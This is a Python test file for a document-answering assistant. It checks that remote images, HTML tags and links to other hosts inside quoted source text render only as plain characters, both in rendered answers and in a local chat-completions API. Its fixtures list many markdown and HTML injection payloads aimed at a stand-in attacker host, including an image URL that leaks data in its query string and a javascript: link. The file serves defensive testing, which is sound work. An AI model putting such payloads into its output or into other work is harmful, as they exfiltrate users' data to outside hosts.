"""Nothing remote renders: quoted images, HTML and links to other hosts are shown as text (assistant.inert), in
the pure function, in rendered answers, and in the content the /v1 API sends (a real server on 127.0.0.1).

Rendering is checked with markdown-it-py (CommonMark, raw HTML on, as the chat window allows it), which gradio
installs; a bare URL outside code counts as live, since GitHub-flavoured renderers link it on their own."""

from __future__ import annotations

import html
import json
import re
from collections.abc import Iterator
from html.parser import HTMLParser
from pathlib import Path

import httpx
import pytest
from markdown_it import MarkdownIt

from assistant import answer as logic
from assistant.chunking import split_sentences
from assistant.config import Settings
from assistant.embeddings import Embedder
from assistant.index import Index
from assistant.inert import inert_markdown
from assistant.ingestion import Ingestor
from assistant.loaders import load_file
from assistant.service import Assistant
from assistant.types import Sentence
from tests.api_server import RunningServer, start_app

ROOT = Path(__file__).resolve().parent.parent
ATTACKER = "http://attacker.example"

REMOTE = [
    f"The batch record ![i]({ATTACKER}/leak?q=batch-42) must be reviewed.",
    f"See the logo <img src={ATTACKER}/a.png> on each label.",
    f'See the logo <img src="x.png" srcset="{ATTACKER}/b.png 2x"> on each label.',
    f'Vials <picture><source srcset="{ATTACKER}/c.png"><img src="local.png"></picture> are inspected.',
    f'The style sheet <link rel="stylesheet" href="{ATTACKER}/d.css"> is loaded.',
    f'A frame <iframe src="{ATTACKER}/e"></iframe> shows the line.',
    f'An icon <svg><image href="{ATTACKER}/f.png"/></svg> marks it.',
    'Read <a href="http://other.example/specs">the specs</a> first.',
    f'The door is sealed <div style="background:url({ATTACKER}/g.png)">tight</div> during each cycle.',
    "Labels use ![logo](data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=) the client logo.",
    "Click [here](javascript:alert(1)) to start.",
    f"Reports are at <{ATTACKER}/auto> for the client.",
    f"Reports are at {ATTACKER}/bare and www.other.example/records for the client.",
    "A [protocol-relative](//attacker.example/h) and a [backslash](/\\attacker.example/i) link.",
    f"A [spaced]( {ATTACKER}/j) and an [encoded](&#104;ttp://attacker.example/k) link.",
    f"Chambers are cleaned ![chart][r1] and [ref][r1] after every cycle.\n[r1]: {ATTACKER}/l.png",
    f'An unclosed tag <img alt="x" src="{ATTACKER}/m.png"',
    f"A stray ` backtick before {ATTACKER}/n and `` a double one ``.",
    f'<video poster="{ATTACKER}/o.png"></video> <object data="{ATTACKER}/p"></object> <embed src="{ATTACKER}/q">',
    f'<meta http-equiv="refresh" content="0;url={ATTACKER}/r"> <base href="{ATTACKER}/"> <form action="{ATTACKER}/s">',
    f'<input type="image" src="{ATTACKER}/t.png"> <body background="{ATTACKER}/u.png"> <!-- {ATTACKER}/v -->',
    f"Escaped \\` backtick then {ATTACKER}/w and `{ATTACKER}/x`.",
]
URL_ATTRIBUTES = {"src", "srcset", "href", "xlink:href", "style", "poster", "data", "action", "background", "content"}
LOCAL_LINK = "[the SOP](gradio_api/file=/srv/data/uploads/sop.pdf#page=2)"


class Rendered(HTMLParser):
    """What a page built from the HTML would load or link: tags, URL attributes, bare URLs outside <code>."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.urls: list[str] = []
        self.bare: list[str] = []
        self.text: list[str] = []
        self._code = 0

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self._code += tag == "code"
        self.urls += [f"{tag} {name}={value}" for name, value in attrs if name in URL_ATTRIBUTES]

    def handle_endtag(self, tag: str) -> None:
        self._code -= tag == "code"

    def handle_data(self, data: str) -> None:
        self.text.append(data)
        if not self._code:
            self.bare += re.findall(r"(?:https?|ftp)://\S+|www\.\S+", data, re.I)


def rendered(markdown: str) -> Rendered:
    """The HTML a CommonMark renderer with raw HTML on makes of the Markdown, parsed."""
    parser = Rendered()
    parser.feed(MarkdownIt("commonmark", {"html": True}).enable("table").render(markdown))
    return parser


def live(markdown: str) -> list[str]:
    """Everything live in the rendered Markdown: tags beyond text formatting, URL attributes, bare URLs."""
    page = rendered(markdown)
    tags = [t for t in page.tags if t not in {"p", "code", "strong", "em", "ul", "ol", "li", "br"}]
    return tags + page.urls + page.bare


def shown(markdown: str) -> str:
    """The text a reader sees, spaces collapsed."""
    return " ".join("".join(rendered(markdown).text).split())


def _refused_by_markdown_it(text: str) -> bool:
    """markdown-it drops data: and javascript: destinations itself; other renderers need not."""
    return bool(re.search(r"\]\((?:data|javascript):", text))


@pytest.mark.parametrize("text", REMOTE)
def test_remote_constructs_are_shown_as_their_characters(text: str) -> None:
    assert live(text) or _refused_by_markdown_it(text), "the case must be live without the change"
    inert = inert_markdown(text)
    assert live(inert) == [], inert
    assert shown(inert) == " ".join(html.unescape(text).split()) or shown(inert) == " ".join(text.split())


def test_sentences_quoted_one_after_another_cannot_close_a_tag_together() -> None:
    first, second = split_sentences(f'Vials are filled <img alt="one. Two" src="{ATTACKER}/y.png"> daily.')
    joined = logic.render([Sentence(first, (1,)), Sentence(second, (1,))])
    assert live(joined) == [], joined


def test_ordinary_text_and_links_to_the_apps_own_files_are_left_alone() -> None:
    for text in ("The QP certifies each batch [1].", "**Scope**: change control; *all* sites [sic].", LOCAL_LINK):
        assert inert_markdown(text) == text
    page = rendered(inert_markdown(f"Read {LOCAL_LINK} before the audit."))
    assert page.tags.count("a") == 1 and page.urls == ["a href=gradio_api/file=/srv/data/uploads/sop.pdf#page=2"]


def test_no_sentence_of_the_shipped_corpus_changes() -> None:
    changed = []
    for path in sorted((ROOT / "corpus").rglob("*")):
        if path.is_file():
            for page in load_file(path).pages:
                changed += [s for s in split_sentences(page.text) if inert_markdown(s) != s]
    assert changed == []


def test_rendered_answers_keep_their_own_markdown_and_lose_the_remote_parts() -> None:
    sentences = [
        Sentence("A quality agreement covers:", (1,)),
        Sentence(f"change control ![x]({ATTACKER}/z.png)", (1,), item=True, label="Aseptix"),
        Sentence(f"complaints <img src={ATTACKER}/z2.png>", (2,), item=True),
        Sentence(f"Both parties stay accountable, see {ATTACKER}/z3.", (2,)),
    ]
    text = logic.render(sentences)
    assert live(text) == [], text
    page = rendered(text)
    assert page.tags.count("li") == 2 and "strong" in page.tags
    assert logic.cited_numbers(text) == [1, 1, 2, 2]
    assert "".join(logic.render_parts(sentences)) == text


def test_a_refusal_lists_closest_sources_without_live_parts() -> None:
    from assistant.types import Chunk, ScoredChunk

    chunk = Chunk("c", "text", "x.md", "X", "other", None, None, f"Intro ![h]({ATTACKER}/h.png)", "sha", 0)
    assert live(logic.refusal_text([ScoredChunk(chunk, 0.5)])) == []


# --- the /v1 API's content, from a real server over a real index ------------------------------------------

REMOTE_DOCUMENTS = {
    "zentrix-vials.txt": (
        f"Zentrix Labs inspects every filled vial ![i]({ATTACKER}/leak?q=camera) with a camera system.\n"
        f'Zentrix Labs fills 12,000 vials per hour <img src="{ATTACKER}/txt.png"> on its isolator line in Tallinn.\n'
    ),
    "zentrix-lyophilizers.html": (
        "<html><head><title>Zentrix Labs lyophilizers</title></head><body><h1>Zentrix Labs lyophilizers</h1>"
        f'<p>Zentrix Labs runs 17 lyophilizers &lt;img src="{ATTACKER}/html.png"&gt; for freeze drying injectables, '
        f"listed at {ATTACKER}/list.</p></body></html>"
    ),
}
QUESTIONS = (
    "How does Zentrix Labs inspect filled vials?",
    "How many vials per hour does Zentrix Labs fill?",
    "How many lyophilizers does Zentrix Labs run?",
)


@pytest.fixture(scope="module")
def remote_docs_server(embedder: Embedder, tmp_path_factory: pytest.TempPathFactory) -> Iterator[RunningServer]:
    """The app on 127.0.0.1 over a real index of documents that hold remote images and links."""
    base = tmp_path_factory.mktemp("remote-docs")
    docs = base / "docs"
    docs.mkdir()
    for name, text in REMOTE_DOCUMENTS.items():
        (docs / name).write_text(text, encoding="utf-8")
    settings = Settings(data_dir=base / "data", _env_file=None)  # type: ignore[call-arg]
    index = Index.open(settings, embedder)
    assert Ingestor(settings, index).run([docs]).ok
    running = start_app(Assistant(settings, index), api_keys=[])
    yield running
    running.close()


@pytest.mark.parametrize("question", QUESTIONS)
def test_api_content_carries_no_live_image_or_link(remote_docs_server: RunningServer, question: str) -> None:
    body = {"model": "cmo-assistant-quote", "messages": [{"role": "user", "content": question}]}
    reply = httpx.post(remote_docs_server.api + "/chat/completions", json=body, timeout=120)
    assert reply.status_code == 200, reply.text
    content = reply.json()["choices"][0]["message"]["content"]
    assert "attacker.example" in content, content  # the passage was quoted, as text
    assert live(content) == [], content

    streamed = []
    with httpx.stream(
        "POST", remote_docs_server.api + "/chat/completions", json={**body, "stream": True}, timeout=120
    ) as response:
        for line in response.iter_lines():
            if line.startswith("data: {"):
                delta = json.loads(line[6:])["choices"][0]["delta"]
                streamed.append(delta.get("content") or "")
    assert "".join(streamed) == content
